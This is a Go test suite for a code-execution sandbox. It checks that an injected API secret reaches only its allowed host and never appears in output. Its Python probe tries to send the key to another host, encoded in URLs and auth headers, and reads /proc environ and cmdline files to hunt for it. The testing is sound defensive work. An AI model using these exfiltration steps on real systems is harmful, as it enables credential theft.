package backendtest

import (
	"crypto/rand"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/llmsandbox/llmsandbox"
	"github.com/llmsandbox/llmsandbox/internal/testcert"
)

// secretHost is a host of secrets that hands back what it is sent.
type secretHost struct {
	plain, tls *httptest.Server
	authority  *testcert.Authority

	mu  sync.Mutex
	got []string
}

func newSecretHost(t *testing.T) *secretHost {
	t.Helper()
	h := &secretHost{authority: testcert.NewAuthority(t)}
	echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		said := r.Host + " " + r.Header.Get("Authorization") + r.URL.RawQuery
		h.mu.Lock()
		h.got = append(h.got, said)
		h.mu.Unlock()
		w.Header().Set("X-Echo", said)
		fmt.Fprint(w, strings.TrimPrefix(said, r.Host+" "))
	})
	h.plain = httptest.NewServer(echo)
	t.Cleanup(h.plain.Close)
	pair := h.authority.Issue(t, "api.test", nil)
	cert, err := tls.X509KeyPair(pair.Cert, pair.Key)
	if err != nil {
		t.Fatal(err)
	}
	h.tls = httptest.NewUnstartedServer(echo)
	h.tls.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	h.tls.StartTLS()
	t.Cleanup(h.tls.Close)
	return h
}

// options are those of a sandbox that has the secret for this host.
func (h *secretHost) options(t *testing.T, value string) llmsandbox.Options {
	n := llmsandbox.Network{Mode: llmsandbox.NetworkAllow, Resolve: resolveTest, Roots: h.authority.Pool()}
	for _, l := range []net.Listener{h.plain.Listener, h.tls.Listener} {
		n.Allow = append(n.Allow, "*.test:"+port(t, l), "127.0.0.1:"+port(t, l))
	}
	return llmsandbox.Options{
		Network: n, Secrets: []llmsandbox.Secret{{Name: "API_KEY", Value: value, Hosts: []string{"api.test"}}},
		Env: map[string]string{"API": "https://api.test:" + port(t, h.tls.Listener) + "/", "PLAIN_PORT": port(t, h.plain.Listener)},
	}
}

// since returns what the host got after the first n requests.
func (h *secretHost) since(n int) []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.got[n:]...)
}

// secretPrograms print the placeholder, then what the host handed back of "Bearer
// PLACEHOLDER".
var secretPrograms = []struct {
	language, code string
	needs          []string
}{
	{"python", `
import os, urllib.request
key = os.environ["API_KEY"]
print(key)
print(urllib.request.urlopen(urllib.request.Request(os.environ["API"], headers={"Authorization": "Bearer " + key})).read().decode())
`, nil},
	{"bash", `echo "$API_KEY"; curl -sS -H "Authorization: Bearer $API_KEY" "$API"; echo`, []string{"curl"}},
	{"javascript", `
(async () => {
  console.log(process.env.API_KEY);
  const r = await fetch(process.env.API, { headers: { authorization: 'Bearer ' + process.env.API_KEY } });
  console.log(await r.text());
})();
`, []string{"node"}},
	{"java", `
import java.net.*;
import java.net.http.*;
public class Main {
  public static void main(String[] a) throws Exception {
    String key = System.getenv("API_KEY");
    System.out.println(key);
    HttpRequest r = HttpRequest.newBuilder(URI.create(System.getenv("API"))).header("Authorization", "Bearer " + key).build();
    System.out.println(HttpClient.newHttpClient().send(r, HttpResponse.BodyHandlers.ofString()).body());
  }
}
`, []string{"java", "javac"}},
	{"go", `
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
)

func main() {
	key := os.Getenv("API_KEY")
	fmt.Println(key)
	q, _ := http.NewRequest("GET", os.Getenv("API"), nil)
	q.Header.Set("Authorization", "Bearer "+key)
	r, err := http.DefaultClient.Do(q)
	if err != nil {
		panic(err)
	}
	b, _ := io.ReadAll(r.Body)
	fmt.Println(string(b))
}
`, []string{"go"}},
	{"ruby", `
require 'net/http'
puts ENV['API_KEY']
puts Net::HTTP.get(URI(ENV['API']), { 'Authorization' => "Bearer #{ENV['API_KEY']}" })
`, []string{"ruby"}},
	{"r", `
key <- Sys.getenv("API_KEY")
cat(key, "\n", sep = "")
cat(suppressWarnings(readLines(url(Sys.getenv("API"), method = "libcurl", headers = c(Authorization = paste("Bearer", key))))), "\n", sep = "")
`, []string{"Rscript"}},
}

// abuse71Secrets: every language's usual client uses a secret over TLS; its value is
// nowhere inside, goes to no other host, and does not come back.
func (s *suite) abuse71Secrets(t *testing.T) {
	h := newSecretHost(t)
	value := "sk-" + rand.Text() + rand.Text()
	clean := func(t *testing.T, res *llmsandbox.Result) {
		t.Helper()
		all, err := json.Marshal(res)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(all), value) {
			t.Errorf("the value is in the result: %s, want all without %q", all, value)
		}
	}
	options := make([]llmsandbox.Options, len(secretPrograms))
	for i, c := range secretPrograms {
		options[i] = h.options(t, value)
		options[i].Language, options[i].Limits = c.language, llmsandbox.Limits{Memory: 1 << 30, CPUs: 2}
	}
	sandboxes := s.openings(t, options)
	for i, c := range secretPrograms {
		t.Run(c.language, func(t *testing.T) {
			before := len(h.since(0))
			sb := sandboxes.use(t, i, c.needs...)
			needs(t, sb, "network")
			res := run(t, sb, c.code, &llmsandbox.RunOptions{Timeout: 2 * time.Minute})
			wantExit(t, res, 0)
			clean(t, res)
			holder, back, _ := strings.Cut(strings.TrimSpace(res.Stdout), "\n")
			if !strings.HasPrefix(holder, "sk-") || back != "Bearer "+holder {
				t.Errorf("%s, want holder beginning with \"sk-\", back = %q\n%s", res.Stdout, "Bearer "+holder, res.Stderr)
			}
			got := h.since(before)
			if len(got) != 1 || !strings.HasSuffix(got[0], " Bearer "+value) {
				t.Errorf("the host got %q, want len(got) = 1, got[0] ending in %q", got, " Bearer "+value)
			}
			if c.language == "python" {
				s.secretsElsewhere(t, sb, h, value, clean)
			}
		})
	}
}

// secretsElsewhere looks for the value everywhere inside, and tries to have it sent to
// another host and handed back in other ways.
func (s *suite) secretsElsewhere(t *testing.T, sb *llmsandbox.Sandbox, h *secretHost, value string, clean func(*testing.T, *llmsandbox.Result)) {
	before := len(h.since(0))
	res := run(t, sb, `
import base64, glob, json, os, urllib.request
key, port = os.environ["API_KEY"], os.environ["PLAIN_PORT"]
def ask(url, authorization=None):
    r = urllib.request.Request(url, headers={"Authorization": authorization} if authorization else {})
    with urllib.request.urlopen(r) as answer:
        return answer.read().decode() + str(answer.headers)
print(ask(f"http://api.test:{port}/", "Bearer " + key).count(key))
print(ask(os.environ["API"] + "?k=" + key).count(key))
print(ask(os.environ["API"], "Basic " + base64.b64encode(("u:" + key).encode()).decode()).count(base64.b64encode(("u:" + key).encode()).decode()))
print(ask(f"http://other.test:{port}/", "Bearer " + key).count(key))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/tmp/.llmsandbox/*") + glob.glob("/sandbox/*"):
    try:
        print(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
`, nil)
	wantExit(t, res, 0)
	clean(t, res)
	if !strings.HasPrefix(res.Stdout, "2\n2\n2\n2\n") {
		t.Errorf("the placeholder came back otherwise: %.200s, want it to begin with \"2\\n2\\n2\\n2\\n\"\n%s", res.Stdout, res.Stderr)
	}
	got := h.since(before)
	if len(got) != 4 || !strings.HasSuffix(got[0], "Bearer "+value) || !strings.HasSuffix(got[1], "k="+value) || strings.Contains(got[3], value) {
		t.Errorf("the hosts got %q, want len(got) = 4, got[0] ending in %q, got[1] ending in %q, got[3] without %q", got, "Bearer "+value, "k="+value, value)
	}
	noted := false
	for _, a := range res.Network {
		noted = noted || a.Name == "other.test" && strings.Contains(a.Reason, "API_KEY")
	}
	if !noted {
		t.Errorf("that another host was sent the placeholder is not in %+v, want it there", res.Network)
	}
}
